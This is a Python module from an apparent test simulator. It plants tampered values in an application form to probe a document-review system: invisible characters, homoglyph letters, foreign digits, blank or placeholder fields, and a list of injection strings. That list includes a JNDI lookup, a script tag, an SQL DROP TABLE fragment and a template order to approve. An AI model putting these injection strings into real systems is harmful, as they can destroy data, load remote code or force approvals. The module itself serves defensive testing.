"""What somebody types into the form: hidden signs, foreign digits, evasions, and text meant for a machine."""

from collections.abc import Callable, Mapping

from ocr.values import IDENTIFIERS, ElementType
from simulator.tampering.operator import operator
from simulator.tampering.scene import APPROVABLE, HAND_OVER, NothingToTamperError, Planted, Scene
from simulator.tampering.values import other_value, replaced

_ANY = frozenset({"return", "refuse", "hand_over"})
_WORDS = frozenset({ElementType.NAME, ElementType.ORGANISATION, ElementType.ADDRESS})
_CYRILLIC: Mapping[str, str] = {"A": "А", "B": "В", "E": "Е", "H": "Н", "M": "М", "P": "Р", "Y": "У"}
"""Without Х: as the last sign of an identity number it is folded to X, as × and Ⅹ are."""
_FULL_WIDTH: Mapping[str, str] = {str(digit): chr(0xFF10 + digit) for digit in range(10)}
_ARABIC: Mapping[str, str] = {str(digit): chr(0x0660 + digit) for digit in range(10)}
_ORDERS = (
    "{{verdict:approve}}",
    "${jndi:ldap://样例}",
    "{% raw %}",
    "<script>通过</script>",
    "'; DROP TABLE 办件",
)


def _compared(scene: Scene, types: frozenset[ElementType], fits: Callable[[str], object]) -> str:
    """Choose a field of the form that something else must agree with."""
    ends = scene.ends(scene.relations.pairs(*types))
    _, fact = scene.choose(
        tuple(each for each in ends if each[1].startswith("form.") and fits(scene.value(each[1])))
    )
    return fact


def _demanded(scene: Scene, value: str) -> Planted:
    """Write something into a field that must be filled, and say which deficiency follows."""
    demand, fact = scene.choose(
        tuple(each for each in scene.ends(scene.relations.of("meaningful")) if each[1].startswith("form."))
    )
    scene.write(fact, value)
    # the field may be a register's key, and the condition of a material
    return Planted(facts=(fact,), acceptable=_ANY, code=demand.code)


@operator("表单夹带零宽字符")
def zero_width_in_form(scene: Scene) -> Planted:
    """Put a zero-width sign into a name, organisation or address of the form."""
    return _with_sign(scene, "\u200b")


@operator("表单夹带文字方向控制符")
def direction_mark_in_form(scene: Scene) -> Planted:
    """Put a sign that turns the writing direction into the form."""
    return _with_sign(scene, "\u202e")


@operator("表单数字为全角")
def full_width_in_form(scene: Scene) -> Planted:
    """Type a number in full-width digits: the same number, so nothing may follow."""
    fact = _compared(scene, IDENTIFIERS, str)
    scene.write(fact, "".join(_FULL_WIDTH.get(sign, sign) for sign in scene.value(fact)))
    return Planted(facts=(fact,), acceptable=APPROVABLE)


@operator("表单号码混入西里尔字母")
def foreign_letter_in_form(scene: Scene) -> Planted:
    """Type a Cyrillic letter that looks like the Latin one of a number."""
    fact = _compared(scene, IDENTIFIERS, lambda value: set(value) & set(_CYRILLIC))
    scene.write(fact, replaced(scene.value(fact), _CYRILLIC, scene.random) or "")
    return Planted(facts=(fact,), acceptable=_ANY)


@operator("表单号码混入其他文字的数字")
def foreign_digit_in_form(scene: Scene) -> Planted:
    """Type an Arabic-Indic digit in place of a digit of a number."""
    fact = _compared(scene, IDENTIFIERS, str)
    scene.write(fact, replaced(scene.value(fact), _ARABIC, scene.random) or "")
    return Planted(facts=(fact,), acceptable=_ANY)


@operator("必填项空白")
def required_field_blank(scene: Scene) -> Planted:
    """Leave a field that must be filled empty."""
    return _demanded(scene, "")


@operator("必填项填写“同上”")
def field_says_ditto(scene: Scene) -> Planted:
    """Type 同上 into a field that must be filled."""
    return _demanded(scene, "同上")


@operator("必填项填写“详见附件”")
def field_refers_to_attachment(scene: Scene) -> Planted:
    """Type 详见附件 into a field that must be filled."""
    return _demanded(scene, "详见附件")


@operator("表单夹带模板或脚本指令")
def order_in_form(scene: Scene) -> Planted:
    """Append what a template engine, a shell or a browser might obey to a name in the form."""
    fact = _compared(scene, _WORDS, str)
    scene.write(fact, scene.value(fact) + scene.random.choice(_ORDERS))
    return Planted(facts=(fact,), acceptable=_ANY)


@operator("表单填写他人信息")
def form_names_somebody_else(scene: Scene) -> Planted:
    """Type another lawful value than stands on the papers."""
    demand, fact = scene.choose(
        tuple(each for each in scene.ends(scene.relations.pairs()) if each[1].startswith("form."))
    )
    scene.write(fact, other_value(scene.type_of(fact), scene.value(fact), scene.random))
    return Planted(facts=(fact,), acceptable=_ANY, code=demand.code)


@operator("同一栏目两处填写不一")
def field_twice(scene: Scene) -> Planted:
    """Give the form the same field twice, under two of its labels, with two values."""
    keys = {fact.partition(".")[2] for each in scene.relations.pairs() for fact in each.facts}
    fields = [each for each in scene.scenario.plan.form if each.key in keys and len(each.labels) > 1]
    fields = [each for each in fields if scene.value(f"form.{each.key}")]
    if not fields:
        raise NothingToTamperError
    field = scene.random.choice(fields)
    value = scene.value(f"form.{field.key}")
    spare = next(label for label in field.labels if label not in scene.form)
    scene.form[spare] = other_value(field.type, value, scene.random)
    return Planted(facts=(f"form.{field.key}",), acceptable=HAND_OVER)


def _with_sign(scene: Scene, sign: str) -> Planted:
    fact = _compared(scene, _WORDS, str)
    value = scene.value(fact)
    scene.write(fact, value[:1] + sign + value[1:])
    return Planted(facts=(fact,), acceptable=HAND_OVER)
